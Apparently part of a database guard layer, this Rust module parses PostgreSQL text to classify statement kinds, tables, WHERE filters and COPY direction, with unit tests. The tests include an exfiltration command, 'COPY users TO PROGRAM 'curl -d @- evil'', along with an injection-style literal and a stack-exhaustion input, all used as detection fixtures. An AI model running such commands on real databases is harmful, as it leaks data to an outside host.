//! SQL analysis: statement kinds, tables and WHERE clauses, from `sqlparser`'s Postgres grammar.

use super::Sql;
use sqlparser::ast::{
    AlterTableOperation, CopySource, CopyTarget, ObjectName, Query, SetExpr, Statement, Visit, Visitor,
};
use sqlparser::dialect::PostgreSqlDialect;
use sqlparser::parser::Parser;
use std::ops::ControlFlow;

/// Longest SQL text analysed; longer texts are `unknown` (policies decide) rather than parsed.
pub const MAX_ANALYZED_LEN: usize = 1 << 20;

/// Nesting depth the parser accepts before giving up (untrusted input must not exhaust the stack).
const RECURSION_LIMIT: usize = 64;

/// Analyses `text` (one or more statements) into the SQL section of an action.
///
/// Text the parser cannot read still yields an action, with `kinds == ["unknown"]`
/// (or `["do"]` for an anonymous code block), so that policies decide what happens to it.
pub fn analyze(text: &str) -> Sql {
    let key = shape_key(text);
    if let Some(shape) = key.as_deref().and_then(cached) {
        return Sql { text: text.to_string(), ..shape };
    }
    let sql = parse(text);
    if let Some(key) = key {
        remember(key, &sql);
    }
    sql
}

/// Texts longer than this are not fingerprinted (and so always parsed).
const MAX_SHAPE_LEN: usize = 2048;
/// Shapes remembered per thread; a full cache is cleared (statement shapes repeat, so it refills fast).
const MAX_SHAPES: usize = 2048;

thread_local! {
    // Per thread, not shared: every statement looks its shape up, and a lock shared by the
    // connection threads would be contended on every one of them.
    static SHAPES: std::cell::RefCell<std::collections::HashMap<Box<[u8]>, Sql>> = Default::default();
}

fn cached(key: &[u8]) -> Option<Sql> {
    SHAPES.with_borrow(|m| m.get(key).cloned())
}

fn remember(key: Vec<u8>, sql: &Sql) {
    let shape = Sql { text: String::new(), params: Vec::new(), ..sql.clone() };
    SHAPES.with_borrow_mut(|m| {
        if m.len() >= MAX_SHAPES {
            m.clear();
        }
        m.insert(key.into_boxed_slice(), shape);
    });
}

/// The statement's shape: its text with numeric and plain string literals replaced by `?`.
///
/// Literals never change what a statement is (its kinds, tables, WHERE clauses), so statements
/// of one shape share one analysis, and `SELECT ... WHERE id = 1` and `... = 2` are parsed
/// once. The lexer is deliberately narrow: anything it does not fully understand (comments,
/// dollar quoting, escape strings, backslashes, prefixed literals) yields `None`, and such
/// text is always parsed in full.
fn shape_key(text: &str) -> Option<Vec<u8>> {
    if text.len() > MAX_SHAPE_LEN {
        return None;
    }
    let b = text.as_bytes();
    let mut out = Vec::with_capacity(text.len());
    let mut i = 0;
    let ident = |c: u8| c.is_ascii_alphanumeric() || c == b'_' || c >= 0x80;
    while let Some(&c) = b.get(i) {
        match c {
            b'\\' => return None,
            b'-' if b.get(i + 1) == Some(&b'-') => return None,
            b'/' if b.get(i + 1) == Some(&b'*') => return None,
            // `$1` parameters are kept; any other `$` may open a dollar-quoted string.
            b'$' if b.get(i + 1).is_some_and(u8::is_ascii_digit) && !i.checked_sub(1).and_then(|p| b.get(p)).is_some_and(|p| ident(*p)) => {
                out.push(b'$');
                i += 1;
                while let Some(d) = b.get(i).filter(|d| d.is_ascii_digit()) {
                    out.push(*d);
                    i += 1;
                }
            }
            b'$' => return None,
            b'\'' => {
                // A literal right after a word (E'..', B'..', X'..', U&'..', typed 'date' '..') is not plain.
                if i.checked_sub(1).and_then(|p| b.get(p)).is_some_and(|p| ident(*p) || *p == b'&') {
                    return None;
                }
                i += 1;
                loop {
                    match b.get(i)? {
                        // Backslashes mean different things under standard_conforming_strings.
                        b'\\' => return None,
                        b'\'' if b.get(i + 1) == Some(&b'\'') => i += 2,
                        b'\'' => break,
                        _ => i += 1,
                    }
                }
                i += 1;
                out.push(b'?');
            }
            b'"' => {
                // Quoted identifiers are part of the shape.
                let end = b.get(i + 1..)?.iter().position(|x| *x == b'"')? + i + 1;
                out.extend_from_slice(b.get(i..=end)?);
                i = end + 1;
            }
            d if d.is_ascii_digit() && !i.checked_sub(1).and_then(|p| b.get(p)).is_some_and(|p| ident(*p)) => {
                while b.get(i).is_some_and(|x| x.is_ascii_alphanumeric() || *x == b'.') {
                    i += 1;
                }
                out.push(b'?');
            }
            _ => {
                out.push(c);
                i += 1;
            }
        }
    }
    Some(out)
}

/// Parses `text` with the Postgres grammar.
fn parse(text: &str) -> Sql {
    let mut sql = Sql { text: text.to_string(), ..Sql::default() };
    let statements = if text.len() > MAX_ANALYZED_LEN {
        None
    } else {
        Parser::new(&PostgreSqlDialect {})
            .with_recursion_limit(RECURSION_LIMIT)
            .try_with_sql(text)
            .and_then(|mut p| p.parse_statements())
            .ok()
    };
    let Some(statements) = statements else {
        sql.kinds = vec![unparsed_kind(text).to_string()];
        return sql;
    };
    let mut v = Analyzer::default();
    for st in &statements {
        let _ = st.visit(&mut v);
    }
    sql.parsed = true;
    sql.has_where = v.all_writes_filtered && (v.saw_write || v.outer_select_filtered.unwrap_or(false));
    if statements.is_empty() {
        sql.kinds = vec!["empty".into()];
        sql.has_where = false;
    } else {
        sql.kinds = v.kinds;
    }
    v.tables.retain(|t| !v.cte_names.contains(t));
    sql.tables = v.tables;
    sql.copy = v.copy;
    sql.copy_program = v.copy_program;
    sql
}

/// The kind given to text the parser rejects: `do` for anonymous code blocks, else `unknown`.
fn unparsed_kind(text: &str) -> &'static str {
    let first = text
        .trim_start_matches(|c: char| c.is_whitespace() || c == '(')
        .split(|c: char| !c.is_ascii_alphabetic())
        .next()
        .unwrap_or("");
    if first.eq_ignore_ascii_case("do") { "do" } else { "unknown" }
}

#[derive(Default)]
struct Analyzer {
    kinds: Vec<String>,
    tables: Vec<String>,
    cte_names: Vec<String>,
    all_writes_filtered: bool,
    saw_write: bool,
    outer_select_filtered: Option<bool>,
    copy: String,
    copy_program: bool,
    initialised: bool,
}

impl Analyzer {
    fn kind(&mut self, k: &str) {
        if !self.kinds.iter().any(|x| x == k) {
            self.kinds.push(k.to_string());
        }
    }

    fn table(&mut self, name: &ObjectName) {
        let t = name.to_string().to_ascii_lowercase().replace('"', "");
        if !self.tables.contains(&t) {
            self.tables.push(t);
        }
    }

    fn write_filtered(&mut self, filtered: bool) {
        self.saw_write = true;
        self.all_writes_filtered &= filtered;
    }
}

impl Visitor for Analyzer {
    type Break = ();

    fn pre_visit_query(&mut self, query: &Query) -> ControlFlow<()> {
        if let Some(with) = &query.with {
            for cte in &with.cte_tables {
                let n = cte.alias.name.value.to_ascii_lowercase();
                if !self.cte_names.contains(&n) {
                    self.cte_names.push(n);
                }
            }
        }
        if self.outer_select_filtered.is_none() {
            self.outer_select_filtered = Some(match query.body.as_ref() {
                SetExpr::Select(s) => s.selection.is_some(),
                _ => false,
            });
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_relation(&mut self, relation: &ObjectName) -> ControlFlow<()> {
        self.table(relation);
        ControlFlow::Continue(())
    }

    fn pre_visit_statement(&mut self, st: &Statement) -> ControlFlow<()> {
        if !self.initialised {
            self.initialised = true;
            self.all_writes_filtered = true;
        }
        match st {
            Statement::Query(q) => {
                self.kind("select");
                if let SetExpr::Select(s) = q.body.as_ref()
                    && s.into.is_some() {
                        self.kind("select_into");
                    }
            }
            Statement::Insert(_) => self.kind("insert"),
            Statement::Update(u) => {
                self.kind("update");
                self.write_filtered(u.selection.is_some());
            }
            Statement::Delete(d) => {
                self.kind("delete");
                self.write_filtered(d.selection.is_some());
            }
            Statement::Merge(_) => self.kind("merge"),
            Statement::Copy { source, to, target, .. } => {
                self.kind("copy");
                if let CopySource::Table { table_name, .. } = source {
                    self.table(table_name);
                }
                self.copy = if *to { "to".into() } else { "from".into() };
                if matches!(target, CopyTarget::Program { .. }) {
                    self.copy_program = true;
                }
            }
            Statement::Drop { object_type, names, .. } => {
                self.kind("drop");
                if matches!(object_type, sqlparser::ast::ObjectType::Table | sqlparser::ast::ObjectType::View) {
                    for n in names {
                        self.table(n);
                    }
                }
            }
            Statement::Truncate(t) => {
                self.kind("truncate");
                for n in &t.table_names {
                    self.table(&n.name);
                }
            }
            Statement::AlterTable(a) => {
                self.kind("alter");
                let drops = a.operations.iter().any(|op| {
                    matches!(
                        op,
                        AlterTableOperation::DropColumn { .. }
                            | AlterTableOperation::DropConstraint { .. }
                            | AlterTableOperation::DropPrimaryKey { .. }
                            | AlterTableOperation::DropForeignKey { .. }
                            | AlterTableOperation::DropPartitions { .. }
                    )
                });
                if drops {
                    self.kind("alter_drop");
                }
                self.table(&a.name);
            }
            Statement::CreateTable(c) => {
                self.kind("create");
                self.table(&c.name);
            }
            Statement::Explain { analyze, .. } => {
                self.kind("explain");
                if *analyze {
                    self.kind("explain_analyze");
                }
            }
            Statement::Prepare { .. } => self.kind("prepare"),
            Statement::Execute { .. } => self.kind("execute"),
            Statement::Call(_) => self.kind("call"),
            Statement::StartTransaction { .. } => self.kind("begin"),
            Statement::Commit { .. } => self.kind("commit"),
            Statement::Rollback { .. } => self.kind("rollback"),
            Statement::Set(_) => self.kind("set"),
            other => {
                // Rare statements: the first keyword of their canonical text names them.
                let text = other.to_string();
                let word: String = text
                    .split_whitespace()
                    .next()
                    .unwrap_or("unknown")
                    .chars()
                    .filter(|c| c.is_ascii_alphabetic())
                    .collect::<String>()
                    .to_ascii_lowercase();
                self.kind(if word.is_empty() { "unknown" } else { &word });
                if word == "declare" {
                    // A cursor reads what its query reads, a FETCH at a time.
                    self.kind("select");
                }
            }
        }
        ControlFlow::Continue(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shapes() {
        assert_eq!(shape_key("SELECT a FROM t WHERE id = 42 AND x = 'it''s' AND t2.c = $1").as_deref(), Some(&b"SELECT a FROM t WHERE id = ? AND x = ? AND t2.c = $1"[..]));
        assert_eq!(shape_key("select 1.5e3, \"x 1\" from t").as_deref(), Some(&b"select ?, \"x 1\" from t"[..]));
        for bail in ["select 1 -- c", "select /* c */ 1", "select $$x$$", "select E'\\n'", "select x'ff'", "select 'a\\'", "select 'unterminated"] {
            assert_eq!(shape_key(bail), None, "{bail}");
        }
        // One analysis per shape, with each text kept.
        let a = analyze("DELETE FROM t WHERE id = 1");
        let b = analyze("DELETE FROM t WHERE id = 2");
        assert_eq!(b.text, "DELETE FROM t WHERE id = 2");
        assert_eq!((a.kinds, a.tables, a.has_where), (b.kinds, b.tables, b.has_where));
        // Literals cannot hide structure: a quote inside a string is still inside it.
        let s = analyze("SELECT 'x'' ; DROP TABLE t; --'");
        assert_eq!(s.kinds, ["select"]);
    }

    #[test]
    fn simple_select() {
        let s = analyze("SELECT abalance FROM pgbench_accounts WHERE aid = 42;");
        assert!(s.parsed);
        assert_eq!(s.kinds, ["select"]);
        assert_eq!(s.tables, ["pgbench_accounts"]);
        assert!(s.has_where);
    }

    #[test]
    fn nested_kinds() {
        let s = analyze("WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d");
        assert!(s.kinds.contains(&"select".to_string()), "{:?}", s.kinds);
        assert!(s.kinds.contains(&"delete".to_string()), "{:?}", s.kinds);
        assert_eq!(s.tables, ["users"]);
        assert!(!s.has_where);

        let s = analyze("EXPLAIN ANALYZE DELETE FROM orders");
        assert!(s.kinds.contains(&"delete".to_string()), "{:?}", s.kinds);
        assert!(s.kinds.contains(&"explain_analyze".to_string()));

        let s = analyze("PREPARE p AS DELETE FROM t WHERE id = $1");
        assert!(s.kinds.contains(&"prepare".to_string()));
        assert!(s.kinds.contains(&"delete".to_string()));
        assert!(s.has_where);

        let s = analyze("EXECUTE p(1)");
        assert_eq!(s.kinds, ["execute"]);

        let s = analyze("DO $$ BEGIN DELETE FROM t; END $$");
        assert_eq!(s.kinds, ["do"]);
    }

    #[test]
    fn writes_and_where() {
        assert!(!analyze("DELETE FROM t").has_where);
        assert!(analyze("UPDATE t SET a = 1 WHERE id = 2").has_where);
        let two = analyze("DELETE FROM a WHERE id = 1; DELETE FROM b");
        assert!(!two.has_where, "one unfiltered delete makes the text unfiltered");
        assert_eq!(two.tables, ["a", "b"]);
    }

    #[test]
    fn ddl_and_copy() {
        assert_eq!(analyze("DROP TABLE users").kinds, ["drop"]);
        assert_eq!(analyze("DROP TABLE users").tables, ["users"]);
        assert_eq!(analyze("TRUNCATE users, orders").tables, ["users", "orders"]);
        assert_eq!(analyze("TRUNCATE users").kinds, ["truncate"]);
        assert!(analyze("ALTER TABLE users DROP COLUMN email").kinds.contains(&"alter_drop".into()));
        assert!(!analyze("ALTER TABLE users ADD COLUMN x int").kinds.contains(&"alter_drop".into()));
        let c = analyze("COPY users TO PROGRAM 'curl -d @- evil'");
        assert_eq!(c.copy, "to");
        assert!(c.copy_program);
        assert_eq!(c.tables, ["users"]);
        let c = analyze("COPY (SELECT * FROM users) TO STDOUT");
        assert_eq!(c.copy, "to");
        assert!(c.tables.contains(&"users".into()));
        assert_eq!(analyze("COPY users FROM STDIN").copy, "from");
        assert_eq!(analyze("GRANT SELECT ON users TO bob").kinds, ["grant"]);
        let d = analyze("DECLARE c CURSOR FOR SELECT * FROM customers");
        assert_eq!(d.kinds, ["declare", "select"]);
        assert_eq!(d.tables, ["customers"]);
    }

    #[test]
    fn unreadable_and_hostile() {
        assert_eq!(analyze("SELEC oops").kinds, ["unknown"]);
        assert!(!analyze("SELEC oops").parsed);
        let deep = format!("SELECT {}1{}", "(".repeat(5000), ")".repeat(5000));
        assert_eq!(analyze(&deep).kinds, ["unknown"]);
        assert_eq!(analyze("").kinds, ["empty"]);
        let s = analyze("select * from \"Public\".\"Users\" u join orders o on o.uid = u.id");
        assert_eq!(s.tables, ["public.users", "orders"]);
    }
}
